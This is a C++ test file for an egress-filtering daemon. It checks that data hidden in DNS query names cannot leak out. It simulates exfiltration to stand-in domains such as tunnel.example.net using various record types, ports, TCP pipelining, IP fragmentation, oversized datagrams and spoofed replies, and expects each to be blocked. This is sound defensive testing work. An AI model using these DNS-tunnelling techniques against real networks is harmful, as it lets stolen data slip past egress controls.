// Data that programs try to carry out by DNS. Each attempt has a text of its own in its name, which
// the tap on the far side sees without egressd, and must never see with it.
#include <thread>

#include "net/guard_fixture.hpp"
#include "support/raw_socket.hpp"

namespace egress::test {
namespace {

using namespace std::chrono_literals;

constexpr const char* kMulticastDns = "224.0.0.251";

struct Attempt {
  std::string text;  // what is carried out
  DnsServerAddress server;
  std::uint16_t type = kTypeA;
  std::uint16_t source_port = 0;
};

class GuardTunnel : public GuardTest {
 protected:
  // One attempt per combination, its text in a name below `base`.
  std::vector<Attempt> attempts(const std::vector<DnsServerAddress>& servers,
                                const std::vector<std::uint16_t>& types,
                                std::uint16_t source_port = 0) {
    std::vector<Attempt> all;
    for (const DnsServerAddress& server : servers)
      for (const std::uint16_t type : types)
        all.push_back({"exfil" + std::to_string(++count_) + "x", server, type, source_port});
    return all;
  }
  // Sends all questions, and takes whatever comes back in a moment.
  void carry_out(const std::vector<Attempt>& all, const std::string& base) {
    for (const Attempt& attempt : all) {
      DnsSocket socket(lab.host(), attempt.server, {.source_port = attempt.source_port});
      socket.send(write_query({.name = attempt.text + base, .type = attempt.type}));
      socket.receive(20ms);
    }
  }
  static std::vector<std::string> seen(Tap& tap, const std::vector<Attempt>& all) {
    std::vector<std::string> texts;
    for (const Attempt& attempt : all)
      if (tap.carried(attempt.text))
        texts.push_back(attempt.text + " to " + attempt.server.address + " type " +
                        std::to_string(attempt.type));
    return texts;
  }
  // Without egressd everything gets out, with it nothing.
  void expect_held_back(const std::vector<Attempt>& all, const std::string& base,
                        const std::string& policy) {
    carry_out(all, base);
    ASSERT_EQ(seen(far_side, all).size(), all.size()) << "not every attempt works without egressd";
    const Daemon daemon(lab, policy);
    ASSERT_EQ(rcode_of(ask("api.openai.com")), kNoError);
    Tap after(lab.net(), "host0");
    carry_out(all, base);
    EXPECT_EQ(seen(after, all), std::vector<std::string>{});
    for (const std::string& name : after.names_asked()) EXPECT_EQ(name, "api.openai.com");
  }

  TcpServer other_ports{lab.net(), {853, 5353}};

 private:
  int count_ = 0;
};

const std::vector<std::uint16_t> kTypes{kTypeA,   kTypeAaaa, kTypeTxt,   kTypeNull, kTypeCname,
                                        kTypeMx,  kTypeAny,  kTypeHttps, kTypeSvcb, kTypeAxfr,
                                        kTypePtr, kTypeSrv,  kTypeNs,    kTypeSoa};
const std::vector<DnsServerAddress> kServers{
    {kResolver}, {kResolver, Over::tcp}, {kPublic4},   {kPublic4, Over::tcp},
    {kPublic6},  {kPublic6, Over::tcp},  {kResolver6}, {kResolver6, Over::tcp}};

TEST_F(GuardTunnel, NoTypeCarriesANameThatIsNotListed) {
  expect_held_back(attempts(kServers, kTypes), ".tunnel.example.net",
                   guarded_policy("api.openai.com:443"));
}

TEST_F(GuardTunnel, NoTypeCarriesANameBelowOneThatIsListed) {
  expect_held_back(attempts(kServers, {kTypeA, kTypeTxt, kTypeNull}), ".api.openai.com",
                   guarded_policy("api.openai.com:443"));
}

// What a wildcard lets out is the name in a question for an address, and nothing else.
TEST_F(GuardTunnel, BelowAWildcardOnlyAddressesAreAskedFor) {
  std::vector<std::uint16_t> types = kTypes;
  std::erase_if(types, [](std::uint16_t type) { return type == kTypeA || type == kTypeAaaa; });
  expect_held_back(attempts(kServers, types), ".cdn.example.com",
                   guarded_policy("api.openai.com:443, \"*.cdn.example.com:443\""));
}

TEST_F(GuardTunnel, NotFromPort53) {
  auto all = attempts({{kResolver}, {kPublic4}, {kPublic6}}, {kTypeA, kTypeTxt}, 53);
  const auto other = attempts({{kPublic4, Over::udp, 40'053}, {kPublic6, Over::udp, 40'053}},
                              {kTypeA, kTypeTxt}, 53);
  all.insert(all.end(), other.begin(), other.end());
  for (const char* server : {kPublic4, kPublic6}) {
    const auto tcp = attempts({{server, Over::tcp}}, {kTypeTxt}, 53);
    all.insert(all.end(), tcp.begin(), tcp.end());
  }
  expect_held_back(all, ".tunnel.example.net", guarded_policy("api.openai.com:443"));
}

TEST_F(GuardTunnel, NotThroughPortsOfEncryptedOrMulticastDns) {
  std::vector<DnsServerAddress> servers;
  for (const char* address : {kResolver, kPublic4, kPublic6})
    for (const std::uint16_t port : {std::uint16_t{853}, std::uint16_t{5353}})
      for (const Over over : {Over::udp, Over::tcp}) servers.push_back({address, over, port});
  servers.push_back({kMulticastDns, Over::udp, 5353});
  expect_held_back(attempts(servers, {kTypeA, kTypeTxt}), ".tunnel.example.net",
                   guarded_policy("api.openai.com:443"));
}

// Over TCP a question may be in pieces, or stand behind others.
TEST_F(GuardTunnel, NotInPiecesNorBehindAnAllowedQuestion) {
  const auto pipeline = [&](const std::string& text) {
    DnsSocket socket(lab.host(), {kPublic4, Over::tcp});
    for (const std::string& name : {std::string("api.openai.com"), text + ".example.net"})
      socket.send(write_query({.name = name}));
    socket.receive(100ms);
    socket.receive(100ms);
  };
  pipeline("exfilbefore");
  ASSERT_TRUE(far_side.carried("exfilbefore"));
  const Daemon daemon(lab, guarded_policy("api.openai.com:443"));
  Tap after(lab.net(), "host0");
  pipeline("exfilafter");
  EXPECT_FALSE(after.carried("exfilafter"));
}

class GuardFragments : public GuardTunnel, public ::testing::WithParamInterface<bool> {};
INSTANTIATE_TEST_SUITE_P(Of, GuardFragments, ::testing::Bool(),
                         [](const auto& of) { return of.param ? "NotToBeJoined" : "Plain"; });

TEST_P(GuardFragments, CarryNothing) {
  const auto send_all = [&](const std::string& text) {
    for (const std::size_t piece : {8U, 16U, 64U})
      for (const char* server : {kResolver, kPublic4})
        send_in_fragments(lab.host(), {"10.77.0.2", server, piece, GetParam()},
                          write_query({.name = text + std::to_string(piece) + ".example.net"}));
  };
  send_all("ex");
  ASSERT_TRUE(far_side.carried("ex16"));
  ASSERT_GE(far_side.count(kPublic4), 10U);
  const Daemon daemon(lab, guarded_policy("api.openai.com:443"));
  ASSERT_EQ(rcode_of(ask("api.openai.com")), kNoError);
  Tap after(lab.net(), "host0");
  send_all("ey");
  std::this_thread::sleep_for(200ms);
  for (const char* text : {"ey8", "ey16", "ey64"}) EXPECT_FALSE(after.carried(text)) << text;
  EXPECT_EQ(after.count(kPublic4) + after.count(kResolver), 0U);
}

// Too large for one packet: the kernel makes the fragments.
TEST_F(GuardTunnel, NotInADatagramBeyondTheMtu) {
  const auto send_large = [&](const std::string& text) {
    for (const char* server : {kPublic4, kPublic6}) {
      DnsSocket socket(lab.host(), {server});
      auto message = write_query({.name = text + ".example.net"});
      message.resize(4000, 'z');
      socket.send(message);
      socket.receive(50ms);
    }
  };
  send_large("exfilbefore");
  ASSERT_TRUE(far_side.carried("exfilbefore"));
  const Daemon daemon(lab, guarded_policy("api.openai.com:443"));
  Tap after(lab.net(), "host0");
  send_large("exfilafter");
  EXPECT_FALSE(after.carried("exfilafter"));
  EXPECT_FALSE(after.carried("zzzzzzzz"));
}

// A packet from outside must not make what goes back to its port 53 the answer in a known flow.
TEST_F(GuardTunnel, NotAsTheAnswerToAnUninvitedPacket) {
  constexpr std::uint16_t kProgram = 40'001;
  const auto invite_and_answer = [&](const std::string& text) {
    DnsSocket program(lab.host(), {kResolver}, {.source_port = kProgram});
    DnsSocket outside(lab.net(), {"10.77.0.2", Over::udp, kProgram}, {.source_port = 53});
    outside.send(write_query({.name = "come.example.net"}));
    std::this_thread::sleep_for(50ms);
    program.send(write_query({.name = text + ".example.net"}));
    program.receive(50ms);
  };
  invite_and_answer("exfilbefore");
  ASSERT_TRUE(far_side.carried("exfilbefore"));
  const Daemon daemon(lab, guarded_policy("api.openai.com:443"));
  Tap after(lab.net(), "host0");
  invite_and_answer("exfilafter");
  EXPECT_FALSE(after.carried("exfilafter"));
}

// The far side keeps to the case: it knows the name in lower case only, which is how egressd asks.
TEST_F(GuardTunnel, NotInTheCaseOfAQuestion) {
  dns.set("low.cdn.example.com", {.addresses = {kApi4}});
  ASSERT_EQ(rcode_of(ask("LoW.CdN.example.com")), kNxdomain);
  const Daemon daemon(lab, guarded_policy("\"*.cdn.example.com:443\""));
  EXPECT_EQ(rcode_of(ask("LoW.CdN.example.com")), kNoError);
}

}  // namespace
}  // namespace egress::test
